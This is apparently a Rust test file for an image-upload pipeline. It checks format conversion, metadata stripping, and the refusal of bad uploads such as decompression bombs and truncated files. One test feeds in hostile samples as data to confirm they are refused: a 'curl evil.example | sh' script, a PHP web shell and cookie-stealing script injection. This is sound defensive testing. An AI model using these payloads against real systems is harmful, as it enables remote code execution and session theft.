//! The pipeline on each accepted format and on each kind of bad upload.

mod fixtures;

use byline_media::{Kind, Limits, MediaError, ingest, inspect};
use fixtures::*;

fn ok(bytes: &[u8]) -> byline_media::Ingested {
    ingest(bytes, &Limits::default()).unwrap()
}

fn refused(bytes: &[u8]) -> MediaError {
    let e = ingest(bytes, &Limits::default()).unwrap_err();
    assert!(e.is_user_error(), "{e:?} should be the uploader's to fix");
    e
}

/// Every variant is a real WebP of the dimensions it claims.
fn assert_variants(got: &byline_media::Ingested, widths: &[(u32, u32)]) {
    let dims: Vec<(u32, u32)> = got.variants.iter().map(|v| (v.width, v.height)).collect();
    assert_eq!(dims, widths);
    for v in &got.variants {
        assert_eq!(v.name, format!("{}.webp", v.width));
        assert_eq!(v.mime, "image/webp");
        assert_eq!(&v.data[..4], b"RIFF");
        assert_eq!(&v.data[8..12], b"WEBP");
        let back = image::load_from_memory_with_format(&v.data, image::ImageFormat::WebP).unwrap();
        assert_eq!((back.width(), back.height()), (v.width, v.height));
    }
}

#[test]
fn a_jpeg_photo_gets_four_webp_variants_and_a_jpeg_original() {
    let got = ok(&jpeg(2000, 1000));
    assert_eq!(got.kind, Kind::Jpeg);
    assert_eq!((got.width, got.height), (2000, 1000));
    assert_variants(&got, &[(320, 160), (640, 320), (1024, 512), (1600, 800)]);
    assert_eq!(got.original.name, "original.jpg");
    assert_eq!((got.original.width, got.original.height), (2000, 1000));
    assert_eq!(
        image::guess_format(&got.original.data).unwrap(),
        image::ImageFormat::Jpeg
    );
    assert_eq!(got.key.len(), 32);
    assert_eq!(got.key, ok(&jpeg(2000, 1000)).key, "same bytes, same key");
    assert_ne!(got.key, ok(&jpeg(2000, 999)).key);
}

#[test]
fn a_png_is_never_upscaled_and_keeps_its_transparency() {
    let got = ok(&png(500, 250));
    assert_eq!(got.kind, Kind::Png);
    assert_variants(&got, &[(320, 160), (500, 250)]);
    assert_eq!(got.original.name, "original.png");
    let variant = image::load_from_memory(&got.variants[1].data).unwrap();
    assert!(variant.color().has_alpha());
    assert!(variant.to_rgba8().get_pixel(400, 10)[3] < 255);
}

#[test]
fn a_webp_is_accepted() {
    let got = ok(&webp(700, 350));
    assert_eq!(got.kind, Kind::Webp);
    assert_variants(&got, &[(320, 160), (640, 320), (700, 350)]);
    assert_eq!(got.original.name, "original.webp");
}

#[test]
fn a_gif_keeps_its_first_frame_as_png() {
    let got = ok(&gif(200, 100));
    assert_eq!(got.kind, Kind::Gif);
    assert_variants(&got, &[(200, 100)]);
    assert_eq!(got.original.name, "original.png");
    assert_eq!(got.original.mime, "image/png");
}

#[test]
fn exif_and_gps_are_stripped_and_the_orientation_applied() {
    let upload = jpeg_with_exif_gps(64, 32);
    // The planted metadata is really there, and the decoder reads the file.
    assert!(contains(&upload, b"Exif\0\0"));
    assert!(contains(&upload, GPS_MARKER));
    let got = ok(&upload);
    // Orientation 6 turned the 64×32 picture upright: 32×64.
    assert_eq!((got.width, got.height), (32, 64));
    for file in got.files() {
        assert!(!contains(&file.data, b"Exif"), "{} kept EXIF", file.name);
        assert!(!contains(&file.data, GPS_MARKER), "{} kept GPS", file.name);
        assert!(
            !contains(&file.data, b"II*\0"),
            "{} kept a TIFF block",
            file.name
        );
    }
}

#[test]
fn an_empty_file_is_refused() {
    assert!(matches!(refused(b""), MediaError::Empty));
}

#[test]
fn a_file_over_the_size_limit_is_refused_before_decoding() {
    let limits = Limits {
        max_bytes: 1024 * 1024,
        ..Limits::default()
    };
    let mut big = jpeg(64, 64);
    big.resize(1024 * 1024 + 1, 0);
    let e = ingest(&big, &limits).unwrap_err();
    assert!(matches!(e, MediaError::TooBig { .. }), "{e:?}");
    assert_eq!(
        e.to_string(),
        "the file is 1.0 MB and the largest accepted is 1.0 MB"
    );
    let e = ingest(&vec![0; 30 * 1024 * 1024], &Limits::default()).unwrap_err();
    assert_eq!(
        e.to_string(),
        "the file is 30 MB and the largest accepted is 20 MB"
    );
}

#[test]
fn a_renamed_script_html_page_or_svg_is_not_an_image() {
    for body in [
        b"#!/bin/sh\ncurl evil.example | sh\n".as_slice(),
        b"<?php system($_GET['c']); ?>",
        b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>",
        b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
        b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"/>",
        b"GIF",
    ] {
        let e = refused(body);
        assert!(matches!(e, MediaError::NotAnImage), "{e:?}");
        assert_eq!(
            e.to_string(),
            "this file is not an image: upload a JPEG, PNG, WebP or GIF"
        );
    }
}

#[test]
fn other_image_formats_are_named_and_refused() {
    let e = refused(b"BM\x3a\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0");
    assert!(matches!(e, MediaError::UnsupportedFormat { .. }), "{e:?}");
    assert_eq!(
        e.to_string(),
        "BMP images are not accepted: upload a JPEG, PNG, WebP or GIF"
    );
    let e = refused(b"II*\0\x08\0\0\0");
    assert!(e.to_string().starts_with("TIF"), "{e}");
}

#[test]
fn a_decompression_bomb_is_refused_from_its_header() {
    let bomb = png_declaring(50_000, 50_000);
    assert!(bomb.len() < 200);
    let e = refused(&bomb);
    assert!(
        matches!(
            e,
            MediaError::TooManyPixels {
                width: 50_000,
                height: 50_000,
                ..
            }
        ),
        "{e:?}"
    );
    assert!(e.to_string().contains("50000×50000"), "{e}");
    // Within the side limit but over the pixel budget.
    let e = refused(&png_declaring(11_000, 11_000));
    assert!(matches!(e, MediaError::TooManyPixels { .. }), "{e:?}");
}

#[test]
fn truncated_files_are_refused_as_damaged() {
    for (name, whole) in [
        ("png", png(300, 200)),
        ("jpeg", jpeg(300, 200)),
        ("gif", gif(300, 200)),
        ("webp", webp(300, 200)),
    ] {
        let cut = &whole[..whole.len() / 2];
        let Err(e) = ingest(cut, &Limits::default()) else {
            panic!("a truncated {name} was accepted");
        };
        assert!(matches!(e, MediaError::Damaged { .. }), "{name}: {e:?}");
        assert!(
            e.to_string()
                .starts_with("the image is damaged or incomplete")
        );
    }
}

/// Found by the image fuzz target's long run (2026-12-02): a GIF whose logical screen is
/// 0 pixels wide (its frame 30 × 20) decoded to an empty picture, and re-encoding it
/// failed as an internal error — a 500 for the uploader — instead of refusing the file.
/// The bytes are the shrunk input the fuzzer printed.
#[test]
fn a_picture_with_no_pixels_is_refused_as_damaged() {
    let gif: &[u8] = &[
        71, 73, 70, 56, 57, 97, 0, 0, 20, 0, 128, 0, 0, 0, 0, 0, 0, 0, 0, 33, 249, 4, 8, 0, 0, 0,
        0, 44, 0, 0, 0, 0, 30, 0, 20, 0, 135, 0, 0, 0, 180, 6, 21, 189, 7, 23, 181, 8, 21, 181, 9,
        21, 181, 10, 21, 200, 10, 24, 210, 12, 25, 179, 13, 21, 29, 13, 4, 204, 13, 25, 36, 14, 5,
        34, 14, 4, 220, 14, 26, 119, 15, 14, 181, 15, 21, 126, 16, 15, 105, 16, 13, 92, 16, 11,
        216, 16, 26, 124, 17, 15, 87, 17, 10, 82, 17, 10, 181, 17, 21, 224, 17, 27, 128, 18, 15,
        110, 18, 13, 33, 18, 4, 226, 18, 27, 128, 19, 15, 99, 19, 12, 34, 19, 4, 228, 20, 27, 80,
        21, 10, 179, 22, 21, 30, 23, 4, 230, 23, 28, 79, 24, 10, 31, 26, 4, 130, 27, 15, 178, 27,
        21, 179, 28, 21, 129, 29, 14, 231, 29, 28, 80, 30, 11, 30, 30, 4, 179, 31, 21, 231, 31, 28,
        131, 32, 14, 80, 33, 11, 231, 33, 29, 180, 34, 21, 128, 35, 14, 30, 35, 4, 77, 37, 11, 27,
        38, 4, 180, 39, 20, 228, 40, 30, 127, 41, 13, 77, 43, 11, 180, 44, 20, 28, 44, 4, 228, 45,
        31, 126, 46, 13, 180, 47, 19, 29, 47, 5, 226, 47, 32, 125, 50, 12, 178, 50, 19, 27, 50, 5,
        229, 50, 35, 76, 51, 11, 24, 54, 5, 229, 54, 39, 124, 55, 11, 73, 56, 12, 179, 57, 20, 25,
        58, 6, 25, 61, 5, 123, 61, 11, 72, 61, 11, 185, 61, 21, 232, 61, 44, 23, 63, 5, 72, 64, 12,
        189, 65, 21, 231, 65, 52, 24, 67, 5, 123, 68, 10, 188, 69, 21, 21, 70, 6, 70, 72, 13, 185,
        72, 21, 122, 73, 10, 65, 75, 12, 120, 75, 10, 26, 76, 5, 191, 76, 23, 62, 78, 12, 194, 78,
        23, 120, 80, 9, 29, 80, 4, 235, 80, 69, 59, 82, 10, 197, 84, 24, 30, 84, 4, 121, 85, 9,
        191, 86, 23, 32, 86, 4, 55, 87, 11, 117, 88, 8, 190, 89, 23, 53, 89, 10, 32, 89, 4, 187,
        91, 23, 237, 91, 82, 37, 92, 4, 118, 94, 7, 41, 97, 4, 193, 98, 23, 37, 99, 10, 114, 101,
        7, 49, 101, 6, 186, 104, 22, 184, 105, 23, 29, 105, 10, 52, 106, 7, 116, 107, 6, 186, 109,
        22, 56, 110, 8, 114, 111, 7, 193, 113, 22, 19, 113, 10, 56, 114, 9, 111, 115, 6, 57, 116,
        9, 241, 116, 113, 16, 118, 10, 185, 119, 23, 112, 119, 6, 16, 120, 10, 178, 122, 23, 58,
        122, 9, 182, 123, 22, 113, 126, 6, 57, 126, 9, 14, 126, 11, 189, 128, 22, 11, 130, 11, 109,
        130, 5, 57, 133, 10, 179, 135, 23, 110, 135, 6, 186, 136, 23, 9, 136, 11, 58, 138, 9, 106,
        141, 4, 191, 142, 23, 8, 142, 11, 54, 144, 10, 243, 145, 142, 186, 147, 24, 106, 147, 4, 6,
        149, 12, 54, 149, 10, 184, 152, 24, 106, 152, 4, 6, 153, 12, 53, 154, 9, 181, 157, 25, 52,
        157, 9, 52, 158, 9, 105, 158, 3, 105, 159, 2, 173, 160, 26, 5, 160, 13, 60, 161, 9, 105,
        161, 2, 56, 161, 9, 4, 163, 13, 67, 163, 8, 173, 165, 26, 5, 166, 13, 100, 166, 3, 78, 169,
        6, 172, 170, 26, 100, 170, 3, 94, 170, 4, 95, 171, 4, 89, 173, 4, 86, 173, 5, 4, 173, 13,
        182, 175, 25, 4, 177, 14, 245, 177, 173, 186, 178, 25, 6, 179, 14, 196, 183, 23, 4, 183,
        14, 4, 185, 15, 208, 186, 22, 228, 188, 19, 220, 190, 20, 231, 192, 17, 13, 194, 16, 233,
        199, 15, 249, 204, 202, 17, 206, 18, 231, 206, 14, 43, 211, 18, 46, 212, 18, 48, 213, 18,
        138, 213, 9, 140, 213, 10, 41, 213, 18, 150, 214, 10, 144, 215, 9, 160, 215, 9, 137, 215,
        10, 250, 215, 214, 20, 216, 18, 39, 216, 19, 37, 216, 19, 167, 216, 8, 53, 216, 19, 34,
        217, 20, 230, 218, 13, 32, 218, 20, 28, 218, 19, 35, 219, 20, 107, 219, 23, 190, 220, 7,
        85, 220, 25, 60, 220, 20, 83, 220, 24, 134, 221, 8, 195, 221, 8, 186, 222, 7, 81, 222, 24,
        98, 222, 24, 202, 223, 9, 176, 223, 6, 224, 223, 11, 126, 223, 16, 90, 223, 25, 226, 223,
        11, 87, 223, 25, 94, 223, 24, 129, 224, 12, 180, 224, 7, 70, 224, 22, 118, 225, 18, 75,
        225, 23, 216, 226, 10, 252, 228, 227, 255, 255, 255, 8, 255, 0, 19, 8, 20, 184, 160, 160,
        5, 11, 21, 36, 68, 136, 224, 0, 130, 195, 0, 16, 3, 8, 16, 96, 224, 64, 131, 6, 28, 56, 12,
        76, 80, 208, 32, 66, 133, 26, 26, 102, 24, 137, 160, 36, 69, 5, 22, 57, 128, 32, 113, 99,
        132, 75, 19, 31, 62, 148, 152, 89, 194, 131, 7, 13, 42, 78, 232, 60, 129, 162, 103, 138,
        11, 19, 38, 96, 32, 177, 98, 197, 141, 163, 55, 106, 40, 181, 193, 52, 134, 83, 29, 80, 97,
        72, 197, 65, 149, 106, 142, 171, 57, 100, 200, 64, 194, 181, 72, 144, 175, 75, 150, 28, 25,
        171, 68, 201, 144, 33, 63, 126, 16, 89, 75, 4, 72, 148, 42, 66, 132, 24, 241, 97, 68, 139,
        150, 41, 83, 156, 56, 241, 2, 133, 138, 223, 35, 79, 2, 11, 102, 66, 152, 201, 91, 184, 73,
        146, 24, 169, 107, 23, 76, 153, 50, 103, 206, 120, 217, 66, 249, 139, 229, 46, 152, 153,
        112, 217, 204, 101, 12, 26, 52, 82, 66, 75, 209, 2, 38, 77, 156, 56, 116, 224, 192, 57, 35,
        102, 139, 155, 215, 110, 212, 200, 150, 67, 155, 246, 155, 207, 159, 67, 19, 218, 221, 7,
        15, 30, 63, 129, 130, 27, 202, 67, 60, 79, 157, 227, 124, 146, 39, 191, 195, 156, 57, 232,
        68, 137, 120, 251, 41, 116, 168, 186, 161, 235, 134, 4, 253, 217, 222, 168, 123, 35, 69,
        131, 194, 139, 255, 31, 68, 137, 146, 36, 73, 140, 34, 169, 143, 228, 168, 146, 123, 72,
        240, 33, 121, 239, 62, 169, 254, 164, 241, 158, 60, 105, 210, 244, 169, 255, 166, 255, 156,
        4, 200, 9, 38, 4, 186, 114, 201, 129, 151, 100, 210, 201, 130, 12, 38, 115, 202, 131, 167,
        168, 162, 10, 42, 168, 192, 66, 11, 46, 166, 100, 152, 161, 43, 28, 114, 152, 74, 41, 161,
        52, 152, 76, 50, 179, 216, 98, 226, 42, 171, 200, 98, 33, 46, 184, 236, 114, 75, 44, 48,
        230, 34, 99, 45, 52, 166, 50, 76, 49, 200, 140, 56, 98, 48, 196, 244, 200, 204, 133, 184,
        248, 34, 100, 47, 188, 232, 98, 164, 140, 50, 2, 3, 204, 141, 200, 32, 163, 140, 142, 199,
        48, 35, 37, 51, 209, 68, 51, 77, 144, 67, 26, 73, 77, 53, 213, 200, 120, 35, 142, 77, 62,
        185, 204, 50, 204, 60, 99, 102, 149, 86, 78, 51, 13, 56, 230, 152, 163, 141, 54, 212, 196,
        73, 205, 53, 215, 100, 83, 12, 142, 202, 64, 211, 204, 158, 207, 112, 195, 13, 57, 225,
        116, 3, 78, 58, 233, 168, 131, 14, 58, 109, 182, 73, 13, 54, 117, 126, 211, 206, 57, 231,
        176, 195, 142, 56, 148, 138, 227, 231, 159, 229, 148, 67, 168, 62, 252, 216, 115, 207, 59,
        230, 236, 51, 207, 58, 235, 100, 243, 77, 60, 249, 180, 195, 14, 60, 253, 244, 83, 15, 165,
        151, 146, 25, 147, 105, 58, 250, 112, 234, 233, 59, 251, 228, 138, 79, 169, 241, 160, 154,
        15, 60, 172, 186, 90, 79, 61, 1, 1, 0, 59,
    ];
    let e = ingest(gif, &Limits::default()).expect_err("a 0-pixel-wide GIF was accepted");
    assert!(matches!(e, MediaError::Damaged { .. }), "{e:?}");
    assert!(e.is_user_error(), "{e:?}");
}

/// An import checks thousands of pictures by their headers and makes the files later:
/// what `inspect` promises must be exactly what `ingest` makes, or a page rendered in
/// between would point at files that never come.
#[test]
fn inspect_promises_exactly_the_files_ingest_makes() {
    for (name, upload) in [
        ("jpeg", jpeg(2000, 1000)),
        ("small jpeg", jpeg(300, 977)),
        ("png", png(500, 250)),
        ("webp", webp(700, 351)),
        ("gif", gif(200, 100)),
        ("rotated by EXIF", jpeg_with_exif_gps(64, 32)),
    ] {
        let promised = inspect(&upload, &Limits::default()).unwrap();
        let made = ok(&upload);
        assert_eq!(promised.key, made.key, "{name}");
        assert_eq!(promised.kind, made.kind, "{name}");
        assert_eq!(
            (promised.width, promised.height),
            (made.width, made.height),
            "{name}"
        );
        assert_eq!(promised.original_name, made.original.name, "{name}");
        assert_eq!(promised.original_mime, made.original.mime, "{name}");
        let files: Vec<(String, u32, u32)> = made
            .variants
            .iter()
            .map(|v| (v.name.clone(), v.width, v.height))
            .collect();
        assert_eq!(promised.variants, files, "{name}");
    }
}

/// Everything `ingest` refuses before decoding pixels, `inspect` refuses the same way.
#[test]
fn inspect_refuses_what_the_header_already_gives_away() {
    let refuse = |bytes: &[u8]| inspect(bytes, &Limits::default()).unwrap_err();
    assert!(matches!(refuse(b""), MediaError::Empty));
    assert!(matches!(
        refuse(b"<svg xmlns=\"http://www.w3.org/2000/svg\"/>"),
        MediaError::NotAnImage
    ));
    assert!(matches!(
        refuse(b"BM\x3a\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0"),
        MediaError::UnsupportedFormat { .. }
    ));
    assert!(matches!(
        refuse(&png_declaring(50_000, 50_000)),
        MediaError::TooManyPixels {
            width: 50_000,
            height: 50_000,
            ..
        }
    ));
    let whole = jpeg(300, 200);
    assert!(matches!(
        refuse(&whole[..whole.len() / 2]),
        MediaError::Damaged { .. }
    ));
    let small = Limits {
        max_bytes: 1024,
        ..Limits::default()
    };
    assert!(matches!(
        inspect(&whole, &small).unwrap_err(),
        MediaError::TooBig { .. }
    ));
}
